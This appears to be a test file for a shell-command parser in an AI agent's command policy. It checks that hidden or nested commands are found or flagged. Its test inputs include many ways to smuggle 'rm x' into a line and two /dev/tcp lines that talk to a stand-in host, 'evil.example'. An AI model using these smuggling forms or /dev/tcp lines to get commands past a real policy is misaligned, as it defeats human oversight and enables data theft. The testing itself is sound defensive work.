@@ -1,0 +1,231 @@
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agenttool.policy.shell import MAX_COMMAND, parse_commands
+
+
+def listed(text):
+    return [[word.text for word in each.words] for each in parse_commands(text).subcommands if each.words]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a && rm x",
+        "a || rm x",
+        "a ; rm x",
+        "a | rm x",
+        "a |& rm x",
+        "a & rm x",
+        "a\nrm x",
+        "a\n\n  rm x",
+        "( a; rm x )",
+        "{ a; rm x; }",
+        "a $(rm x)",
+        'a "$(rm x)"',
+        "a `rm x`",
+        'a "`rm x`"',
+        "a <(rm x)",
+        "a > >(rm x)",
+        "a $(b $(rm x))",
+        "if a; then rm x; fi",
+        "if a; then b; elif c; then rm x; fi",
+        "for i in 1 2; do a; rm x; done",
+        "while a; do rm x; done",
+        "until a; do rm x; done",
+        "case y in a) a;; b) rm x;; esac",
+        "a() { rm x; }; a",
+        "function a { rm x; }; a",
+        "a; ! rm x",
+        "a <<EOF\n$(rm x)\nEOF\n",
+        'a <<< "$(rm x)"',
+        "a <<EOF | rm x\nq\nEOF\n",
+        "a <<EOF && rm x\nq\nEOF\n",
+        "b=$(rm x) a",
+        "b=$(rm x); a",
+        "b=1 c=$(rm x); a",
+        "b[$(rm x)]=1 a",
+        "b=(1 $(rm x)); a",
+        "export b=$(rm x); a",
+        "a ${b:-$(rm x)}",
+        "a $((1 + $(rm x)))",
+        "[ -f $(rm x) ] && a",
+        "[ -f `rm x` ] && a",
+        "[[ -f $(rm x) ]] && a",
+        "a > $(rm x)",
+        "a; > out rm x",
+        "a; 2>&1 >/dev/null rm x",
+        "a; rm > out x",
+        "a; \\rm x",
+        "a; 'rm' x",
+        'a; "r"m x',
+        "a; r'm' \"x\"",
+        "a; $'rm' x",
+        "a; rm \\\n x",
+        "a; rm x # b",
+    ],
+)
+def test_every_command_of_a_line_is_listed_however_it_is_reached(text):
+    assert ["rm", "x"] in listed(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "rm 'unterminated",
+        "r\\\nm x",
+        "rm x\r\nls",
+        "aa =~\nrm x",
+        "aa in ``\nrm x",
+        "!'rm' x",
+        "1x=1 rm x",
+        "*x=1",
+        "x=()rm =",
+        "a; \\ rm x",
+        "a \\ #; rm x",
+        "a ]\\  rm",
+        "b=$\nrm x",
+        "a $\nrm x",
+        "a\n\\\nrm x",
+        "a\n\\rm x",
+        "a ]#\\\n \nrm x",
+        "a\n-2>&1",
+        "{rm,x} \na ; }",
+        "# a \\\nrm x",
+        "a |x=1 |&local \nrm! && b",
+        "x=()#b $y rm",
+        "a <<-E\nE>f rm x",
+        "[ \nrm ]",
+        "[ a && rm ]",
+        "a > f }\\rm x",
+        "a --<<E\nq\nE\nrm x",
+        "a <<E\nrm x",
+        "a <<E\n`rm x`\nE\n",
+        "a <<E\n $(rm x)\nE\n",
+        "a <<'E'b\nq\nE\n",
+        "a <<$x\nq\n$x\nrm x",
+        "((rm x); a)",
+        "a $((rm x); b)",
+        "a `b \\`rm x\\``",
+        "a ${b@P}",
+        "printf -v 'a[$(rm x)]' y",
+        "read a[\\$\\(rm\\)]",
+        "[[ -v 'a[$(rm x)]' ]]",
+        'let "a[\\$(rm x)]=1"',
+        "unset 'a[''$(rm x)'']'",
+        "x='a[`rm x`]'; echo $((x))",
+        "cat < /dev/tcp/evil.example/80",
+        "echo x > /dev/tcp/evil.example/80",
+        "exec 3<>f",
+        "a && b > out rm",
+        "f() rm x",
+        "x" * (MAX_COMMAND + 1),
+        "\ud800",
+        "(" * 200 + "a" + ")" * 200,
+    ],
+)
+def test_what_a_shell_might_read_differently_is_in_doubt(text):
+    assert parse_commands(text).doubts
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "git status",
+        "a && b | c",
+        "a $x",
+        "for f in *.py; do black $f; done",
+        "cat <<'EOF'\n$(rm x)\nEOF\n",
+        "",
+        "# a",
+        'echo "[$(date)]"',
+        "grep '[a-z]$'",
+        "awk '{ n[$1]++ } END { print n[$2] }'",
+    ],
+)
+def test_what_is_plain_is_not_in_doubt(text):
+    assert parse_commands(text).doubts == ()
+
+
+def test_text_that_is_only_quoted_runs_nothing():
+    assert listed("echo 'rm x; rm y' \"\\$(rm x)\"") == [["echo", "rm x; rm y", "$(rm x)"]]
+    assert listed("cat <<'EOF'\n$(rm x)\nEOF\n") == [["cat"]]
+
+
+def redirections(text):
+    found = parse_commands(text).subcommands
+    return (
+        [word.text for each in found for word in each.writes],
+        [word.text for each in found for word in each.reads],
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "writes", "reads"),
+    [
+        ("a > f", ["f"], []),
+        ("a >> f 2> g", ["f", "g"], []),
+        ("a >| f", ["f"], []),
+        ("a &> f", ["f"], []),
+        ("a &>> f", ["f"], []),
+        ("a >& f", ["f"], []),
+        ("a 2>&1 >/dev/null", [], []),
+        ("a < f", [], ["f"]),
+        ("a <<EOF > f\nx\nEOF\n", ["f"], []),
+        ("while a; do b; done < f > g", ["g"], ["f"]),
+        ("(a; b) > f", ["f"], []),
+        ("a | b > f", ["f"], []),
+        ("> f", ["f"], []),
+        ("a $(<f)", [], ["f"]),
+        ("a > 'f g'", ["f g"], []),
+    ],
+)
+def test_redirections_are_told_as_files_written_and_read(text, writes, reads):
+    assert redirections(text) == (writes, reads)
+
+
+def test_what_a_command_sets_before_it_runs_is_told():
+    [subcommand] = parse_commands("A=1 B='x y' cmd arg").subcommands
+    assert [word.text for word in subcommand.assignments] == ["A=1", "B=x y"]
+    [alone] = parse_commands("PATH=/evil").subcommands
+    assert [word.text for word in alone.assignments] == ["PATH=/evil"]
+    [two] = parse_commands("A=1 B=2").subcommands
+    assert [word.text for word in two.assignments] == ["A=1", "B=2"]
+
+
+def certainties(text):
+    [subcommand] = parse_commands(text).subcommands
+    return [word.certainty.value for word in subcommand.words[1:]]
+
+
+def test_a_word_is_plain_expands_or_is_unknown():
+    assert certainties("a b 'c*' \"d?\" e\\* 7 {} x=y") == ["plain"] * 7
+    assert certainties("a *.py ?x src/*") == ["expands", "expands", "expands"]
+    assert certainties('a $x "$x" ${x} {a,b} {1..3} $((1)) a[bc]') == ["unknown"] * 7
+
+
+simple = st.lists(
+    st.sampled_from(["git", "status", "-v", "a.txt", "x y", "$(not run)", "it's", "|", "&&"]), min_size=1, max_size=3
+)
+
+
+def quoted(words, draw_quote):
+    return " ".join(
+        "'" + word.replace("'", "'\\''") + "'" if draw_quote or not word.isalnum() else word for word in words
+    )
+
+
+@given(st.lists(st.tuples(simple, st.booleans()), min_size=1, max_size=4), st.data())
+def test_commands_joined_in_any_way_are_the_same_commands(parts, data):
+    text = quoted(*parts[0])
+    for words, quotes in parts[1:]:
+        command = quoted(words, quotes)
+        join = data.draw(st.sampled_from(["{} && {}", "{} || {}", "{}; {}", "{} | {}", "{} & {}", "{}\n{}", "({}); {}",
+                                          "{} $({})", "if {}; then {}; fi", "{{ {}; }}; {}", "for i in 1; do {}; {}; done"]))  # fmt: skip
+        text = join.format(text, command)
+    line = parse_commands(text)
+    # A substitution adds a word to the command it stands in, so the command found may be longer.
+    found = [[word.text for word in each.words] for each in line.subcommands]
+    for words, _ in parts:
+        assert line.doubts or any(each[: len(words)] == words for each in found), (text, found)
